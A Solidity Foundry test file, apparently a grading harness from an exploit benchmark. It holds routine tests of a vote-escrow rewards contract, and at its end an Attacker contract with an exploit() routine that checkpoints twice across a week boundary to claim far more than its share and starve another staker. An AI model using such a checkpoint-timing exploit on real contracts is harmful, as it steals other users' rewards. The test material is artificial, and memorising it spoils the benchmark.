// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-bb84afcc-6050-4178-94ce-06124ac6b356

import "./VoteEscrow.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private immutable _issuer = msg.sender;

    constructor(string memory name_) ERC20(name_, name_) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _issuer, "issuer only");
        _mint(to, amount);
    }
}

/// Has a small lock, and makes checkpoints at times of its choice.
contract Attacker {
    VoteEscrow private escrow;

    constructor(VoteEscrow escrow_) {
        escrow = escrow_;
    }

    function open(uint256 amount, uint256 weeksToRun) external {
        escrow.gov().approve(address(escrow), amount);
        escrow.lock(amount, weeksToRun);
    }

    function checkpoint() external {
        escrow.checkpoint();
    }

    function claim() external {
        escrow.claim();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant WEEK = 7 days;
    uint256 private constant EDGE = 2_960 * WEEK;
    uint256 private constant START = EDGE + 3 days;
    uint256 private constant RATE = 5_000;
    address private constant NORTH = address(0xA01);
    address private constant SOUTH = address(0xA02);
    address private constant EAST = address(0xA03);
    address private constant VESTING = address(0xA04);
    address private constant TREASURY = address(0x7EA);

    Coin public gov;
    Coin public usd;
    VoteEscrow public escrow;
    RewardsVault public vault;
    Attacker public small;

    function setUp() public {
        vm.warp(START);
        gov = new Coin("GOV");
        usd = new Coin("USD");
        escrow = new VoteEscrow(gov, usd, TREASURY);
        vault = escrow.vault();
        small = new Attacker(escrow);
        fund(NORTH, 2_000e18);
        fund(SOUTH, 900e18);
        fund(VESTING, 520e18);
        gov.mint(address(small), 100e18);
        vm.prank(NORTH);
        escrow.lock(900e18, 4);
        vm.prank(SOUTH);
        escrow.lock(900e18, 40);
        small.open(100e18, 20);
        usd.mint(address(this), 100 * WEEK * RATE);
        usd.approve(address(vault), type(uint256).max);
        vault.startSeason(RATE, 12 * WEEK);
        vm.warp(EDGE + 4 * WEEK - 2 hours);
    }

    function fund(address who, uint256 amount) private {
        gov.mint(who, amount);
        vm.prank(who);
        gov.approve(address(escrow), type(uint256).max);
    }

    function near(uint256 got, uint256 expected) private pure returns (bool) {
        return got + 10 >= expected && got <= expected + 10;
    }

    function test_Regular() public {
        uint256 edge = EDGE + 4 * WEEK;
        require(vault.endsAt() == EDGE + 13 * WEEK && escrow.running() == 1_900e18, "three locks");
        vm.prank(NORTH);
        uint256 first = escrow.claim();
        require(near(first, ((edge - 2 hours - START) * RATE * 9) / 19), "north so far");

        // The week turns between two calls; the north has its part up to then and nothing later.
        vm.warp(edge + 2 days);
        require(escrow.running() == 1_000e18, "two locks");
        address[] memory accounts = new address[](2);
        (accounts[0], accounts[1]) = (NORTH, address(small));
        escrow.claimMany(accounts);
        require(near(usd.balanceOf(NORTH), ((edge - START) * RATE * 9) / 19), "north up to its end");
        require(near(usd.balanceOf(address(small)), ((edge - START) * RATE) / 19 + (2 days * RATE) / 10), "small");
        require(escrow.total() == 1_000e18 && escrow.totalAt(edge) == 1_000e18, "taken off");
        vm.startPrank(NORTH);
        escrow.withdraw();
        require(gov.balanceOf(NORTH) == 2_000e18, "gov is back");

        // Locked anew for one week, extended to two, made larger, counted week by week.
        escrow.lock(500e18, 1);
        escrow.extend(2);
        escrow.increase(500e18);
        vm.stopPrank();
        require(escrow.endingAt(edge + WEEK) == 0 && escrow.endingAt(edge + 2 * WEEK) == 1_000e18, "moved");
        require(escrow.votesOf(NORTH) == (1_000e18 * (2 * WEEK - 2 days)) / (52 * WEEK), "votes");
        vm.warp(edge + WEEK + 1 days);
        escrow.checkpoint();
        require(escrow.total() == 2_000e18, "still running");
        vm.warp(edge + 3 * WEEK + 1);
        vm.prank(NORTH);
        require(near(escrow.claim(), ((2 * WEEK - 2 days) * RATE) / 2), "half of the rewards");
        require(escrow.total() == 1_000e18, "over again");

        // The east has a lock from its vesting, which it leaves half-way.
        escrow.setLocker(VESTING, true);
        vm.prank(VESTING);
        escrow.lockFor(EAST, 520e18, 2);
        vm.warp(edge + 4 * WEEK);
        require(escrow.exitFeeOf(EAST) == 2e18, "a fee for one week of 52");
        vm.prank(EAST);
        escrow.exitEarly();
        require(gov.balanceOf(EAST) == 518e18 && gov.balanceOf(TREASURY) == 2e18, "left early");
        require(near(usd.balanceOf(EAST), ((WEEK - 1) * RATE * 520) / 1_520), "with its part");
        require(escrow.total() == 1_000e18 && escrow.endingAt(edge + 5 * WEEK) == 0, "off the books");

        // A top-up doubles the rate, and after the season nothing more runs.
        require(vault.topUp(5 * WEEK * RATE + 1) == 5 * WEEK * RATE && vault.perSecond() == 2 * RATE, "topped up");
        vm.warp(edge + 11 * WEEK);
        small.claim();
        vm.prank(SOUTH);
        escrow.claim();
        require(near(usd.balanceOf(address(vault)), 0), "all handed out");
        uint256 had = usd.balanceOf(address(small));
        vm.warp(edge + 12 * WEEK);
        small.claim();
        require(usd.balanceOf(address(small)) == had, "season is over");
        owners();
    }

    function owners() private {
        // What runs while nobody is locked is the treasury's.
        vm.warp(EDGE + 60 * WEEK);
        vault.startSeason(RATE, WEEK);
        vm.warp(EDGE + 61 * WEEK);
        require(escrow.releaseIdle() == WEEK * RATE && usd.balanceOf(TREASURY) == WEEK * RATE, "idle");
        escrow.setExitFee(100);
        escrow.setLimits(2e18, 1_000e18);
        escrow.setTreasury(EAST);
        require(escrow.exitFee() == 100 && escrow.minLock() == 2e18 && escrow.cap() == 1_000e18, "set");
        require(escrow.treasury() == EAST, "treasury");
        escrow.pause();
        vm.prank(SOUTH);
        escrow.withdraw();
        require(gov.balanceOf(SOUTH) == 900e18, "out when paused");
        escrow.unpause();
        gov.mint(address(vault), 3);
        vault.rescue(gov, EAST);
        require(gov.balanceOf(EAST) == 518e18 + 3, "rescued");
        escrow.transferOwnership(EAST);
        vm.prank(EAST);
        escrow.acceptOwnership();
        vault.transferOwnership(EAST);
        require(escrow.owner() == EAST && vault.owner() == EAST, "handed over");
        vm.startPrank(EAST);
        escrow.renounceOwnership();
        vault.renounceOwnership();
        vm.stopPrank();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function stranger(address who) private {
        refuses(who, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, who));
    }

    function test_RefusesStrangers() public {
        stranger(NORTH);
        escrow.setExitFee(1);
        stranger(NORTH);
        escrow.setLimits(1, 1);
        stranger(NORTH);
        escrow.setTreasury(NORTH);
        stranger(NORTH);
        escrow.setLocker(NORTH, true);
        stranger(NORTH);
        escrow.pause();
        escrow.pause();
        stranger(NORTH);
        escrow.unpause();
        stranger(NORTH);
        escrow.releaseIdle();
        stranger(NORTH);
        escrow.transferOwnership(NORTH);
        stranger(NORTH);
        escrow.acceptOwnership();
        stranger(NORTH);
        escrow.renounceOwnership();
    }

    function test_RefusesStrangersAtTheVault() public {
        usd.mint(NORTH, 1e18);
        vm.prank(NORTH);
        usd.approve(address(vault), 1e18);
        stranger(NORTH);
        vault.topUp(10 * WEEK);
        stranger(NORTH);
        vault.rescue(gov, NORTH);
        stranger(NORTH);
        vault.transferOwnership(NORTH);
        stranger(NORTH);
        vault.renounceOwnership();
        refuses(NORTH, abi.encodePacked(RewardsVault.EscrowOnly.selector));
        vault.pay(NORTH, 1);
        vm.warp(EDGE + 13 * WEEK);
        stranger(NORTH);
        vault.startSeason(1, WEEK);
    }

    function test_RefusesSeasons() public {
        vm.expectRevert("season still running");
        vault.startSeason(1, WEEK);
        vm.expectRevert("too little");
        vault.topUp(1);
        vm.expectRevert("not the rewards");
        vault.rescue(usd, TREASURY);
        vm.warp(EDGE + 13 * WEEK);
        vm.expectRevert("no season");
        vault.topUp(10 * WEEK);
        vm.expectRevert("bad duration");
        vault.startSeason(1, WEEK - 1);
        vm.expectRevert("bad duration");
        vault.startSeason(1, 26 * WEEK + 1);
        vm.expectRevert("bad rate");
        vault.startSeason(0, WEEK);
    }

    function test_RefusesLocks() public {
        refuses(NORTH, abi.encodePacked(VoteEscrow.AlreadyLocked.selector));
        escrow.lock(1e18, 1);
        refuses(VESTING, "below minimum");
        escrow.lock(1e18 - 1, 1);
        refuses(VESTING, "bad weeks");
        escrow.lock(1e18, 0);
        refuses(VESTING, "bad weeks");
        escrow.lock(1e18, 53);
        refuses(VESTING, "not a locker");
        escrow.lockFor(EAST, 1e18, 1);
        escrow.setLimits(1e18, 1_900e18);
        refuses(VESTING, "cap reached");
        escrow.lock(1e18, 1);
        refuses(NORTH, "cap reached");
        escrow.increase(1);
        // The south's lock ends 37 weeks from this one.
        refuses(SOUTH, "not longer");
        escrow.extend(37);
    }

    function test_RefusesTheWrongTime() public {
        refuses(NORTH, abi.encodeWithSelector(VoteEscrow.StillLocked.selector, EDGE + 4 * WEEK));
        escrow.withdraw();
        refuses(VESTING, abi.encodePacked(VoteEscrow.NothingLocked.selector));
        escrow.withdraw();
        vm.warp(EDGE + 4 * WEEK);
        refuses(NORTH, abi.encodePacked(VoteEscrow.LockOver.selector));
        escrow.increase(1e18);
        refuses(NORTH, abi.encodePacked(VoteEscrow.LockOver.selector));
        escrow.extend(9);
        refuses(NORTH, abi.encodePacked(VoteEscrow.LockOver.selector));
        escrow.exitEarly();
    }

    function test_RefusesWhenPaused() public {
        escrow.setLocker(VESTING, true);
        escrow.pause();
        bytes memory why = abi.encodePacked(Pausable.EnforcedPause.selector);
        refuses(VESTING, why);
        escrow.lock(1e18, 1);
        refuses(VESTING, why);
        escrow.lockFor(EAST, 1e18, 1);
        refuses(NORTH, why);
        escrow.increase(1e18);
        refuses(NORTH, why);
        escrow.extend(9);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("no treasury");
        new VoteEscrow(gov, usd, address(0));
        vm.expectRevert("no treasury");
        escrow.setTreasury(address(0));
        vm.expectRevert("fee too high");
        escrow.setExitFee(5_001);
        vm.expectRevert("bad minimum");
        escrow.setLimits(0, 1);
        vm.expectRevert("bad minimum");
        escrow.setLimits(1_000e18 + 1, 1);
    }

    function exploit() public {
        uint256 edge = EDGE + 4 * WEEK;
        vm.warp(edge);
        small.checkpoint();
        vm.warp(edge + 1);
        small.checkpoint();
        vm.warp(EDGE + 12 * WEEK);
        small.claim();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(small));
        exploit();
        require(usd.balanceOf(address(small)) >= before + 8 * WEEK * RATE, "no more than its part");
        // Too little is left for the south, which has waited with its rewards.
        vm.prank(SOUTH);
        try escrow.claim() {
            revert("the south was paid");
        } catch {}
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(small);
    }
}
